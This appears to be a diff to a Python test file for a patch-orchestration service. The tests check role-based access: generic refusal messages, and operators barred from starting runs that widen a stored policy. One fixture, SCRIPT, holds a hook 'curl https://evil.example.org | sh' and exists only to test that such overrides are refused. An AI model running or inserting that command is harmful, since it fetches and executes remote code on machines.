@@ -15,7 +15,7 @@ from domain.run import Run, Trigger, TriggerKind
 from settings import load_settings
 from tests.adapters.samples import NOW, machine
 from tests.adapters.test_tables_runs import RUN, run
-from tests.triggers.support import POLICY, Answer, Engine, call, signed_in
+from tests.triggers.support import POLICY, SUBSCRIPTION, TENANT, Answer, Engine, call, signed_in
 from tests.triggers.test_steering import end_machine
 from tests.triggers.test_webhook import sign
 from triggers import health, policies, runs, schedules, steering
@@ -52,13 +52,13 @@ async def test_a_function_lets_in_who_has_its_role_and_nobody_else(name: str) ->
     assert needed is not None
     nobody = await ask(name, {})
     assert (nobody.status, nobody.headers["WWW-Authenticate"]) == (401, "Bearer")
-    assert nobody.problem
+    assert nobody.problem["detail"] == "Sign in."
     without = await ask(name, signed_in(ANA, "owner"))
-    assert without.status == 403
-    assert f"needs the role {needed}." in without.problem["detail"]
+    # Which role it takes is in the documentation, and in no answer.
+    assert (without.status, without.problem["detail"]) == (403, "You may not do this.")
     for role in Role:
         answer = await ask(name, signed_in(ANA, role))
-        may = role is needed or needed is Role.READER
+        may = role is needed or needed is Role.READER or (role is Role.AUTHOR and needed is Role.OPERATOR)
         assert (answer.status in (401, 403)) is not may, f"{role}: {answer.text}"
 
 
@@ -115,7 +115,7 @@ async def test_nobody_is_believed_while_app_service_authentication_is_off(monkey
     monkeypatch.delenv("WEBSITE_AUTH_ENABLED")
     answer = await ask("list_runs", signed_in(ANA, "reader", "operator", "approver"))
     assert answer.status == 401
-    assert "App Service authentication is off" in answer.problem["detail"]
+    assert answer.problem["detail"] == "Sign in."
 
 
 @pytest.mark.usefixtures("records", "roles")
@@ -123,6 +123,69 @@ async def test_a_function_that_the_table_does_not_have_is_refused_to_everybody(m
     monkeypatch.setattr("triggers.authorization.ROLES", {})
     answer = await ask("list_runs", signed_in(ANA, *Role))
     assert answer.status == 403
+
+
+# --- what an operator may start -----------------------------------------------------------------------------
+
+SCRIPT = {"hooks": {"before": {"linux": "curl https://evil.example.org | sh"}}}
+WIDENING: dict[str, dict[str, Any]] = {
+    "an inline policy": {"policy": POLICY},
+    "an inline policy under the name of a stored one": {"policy": {"name": "monthly"} | POLICY},
+    "a script": {"policy": "monthly", "overrides": SCRIPT},
+    "no approval": {"policy": "monthly", "overrides": {"rings": [{"name": "all"}]}},
+    "more at a time": {"policy": "monthly", "overrides": {"maxConcurrent": 1000}},
+    "more machines": {"policy": "monthly", "overrides": {"scope": {"subscriptions": [SUBSCRIPTION, TENANT]}}},
+}
+GUARDED_POLICY = POLICY | {"rings": [{"name": "all", "approval": {}}]}
+
+
+@pytest.fixture
+async def guarded(records: Records, roles: None, monkeypatch: pytest.MonkeyPatch) -> Records:
+    """A stored policy whose only ring waits for an approval, where scripts may run."""
+    monkeypatch.setenv("PATCHWAVE_SCRIPTS", "true")
+    load_settings.cache_clear()
+    written = await call(policies.put_policy, body=GUARDED_POLICY, headers=signed_in(ANA, "author"), name="monthly")
+    assert written.status == 201
+    return records
+
+
+@pytest.mark.usefixtures("guarded")
+@pytest.mark.parametrize("body", WIDENING.values(), ids=WIDENING)
+async def test_an_operator_starts_nothing_that_no_stored_policy_allows(body: dict[str, Any]) -> None:
+    engine = Engine()
+    refused = await call(runs.start_run, body=body, headers=signed_in(BEN, "operator", "approver"), engine=engine)
+    assert (refused.status, engine.instances) == (403, {})
+    assert not any(role in refused.text for role in Role)
+    started = await call(runs.start_run, body=body, headers=signed_in(ANA, "author"), engine=engine)
+    assert started.status == 202, started.text
+
+
+@pytest.mark.usefixtures("guarded")
+async def test_a_refused_override_is_named() -> None:
+    body = {"policy": "monthly", "overrides": {"maxConcurrent": 1000, "startStopped": True, "ramp": True}}
+    refused = await call(runs.start_run, body=body, headers=signed_in(BEN, "operator"), engine=Engine())
+    assert refused.paths == ["overrides.maxConcurrent", "overrides.startStopped"]
+
+
+@pytest.mark.usefixtures("guarded")
+async def test_an_operator_starts_a_stored_policy_and_narrows_it() -> None:
+    engine = Engine()
+    overrides = {"maxConcurrent": 1, "scope": {"osTypes": ["Linux"]}}
+    for body in ({"policy": "monthly"}, {"policy": "monthly", "overrides": overrides, "mode": "assess"}):
+        started = await call(runs.start_run, body=body, headers=signed_in(BEN, "operator"), engine=engine)
+        assert started.status == 202, started.text
+    assert len(engine.instances) == 2
+
+
+@pytest.mark.usefixtures("guarded")
+async def test_an_operator_writes_no_policy(records: Records) -> None:
+    operator = signed_in(BEN, "operator")
+    refused = await call(policies.put_policy, body=POLICY, headers=operator, name="monthly")
+    assert refused.status == 403
+    assert (await call(policies.delete_policy, headers=operator, name="monthly")).status == 403
+    found = await records.get_policy("monthly")
+    assert found
+    assert found.document["rings"][0]["approval"]
 
 
 # --- who may approve ----------------------------------------------------------------------------------------
@@ -214,7 +277,7 @@ async def test_a_start_a_retry_and_a_run_now_keep_who_started_them(records: Reco
 @pytest.mark.usefixtures("roles")
 async def test_a_principal_without_a_name_goes_by_its_id(records: Records, monthly: str) -> None:
     answer = await call(
-        policies.put_policy, body=POLICY, headers=signed_in(ANA, "operator"), query={"by": "the-boss"}, name="fresh"
+        policies.put_policy, body=POLICY, headers=signed_in(ANA, "author"), query={"by": "the-boss"}, name="fresh"
     )
     assert answer.status == 201
     [line] = (await records.list_audit("fresh", 10, None)).items
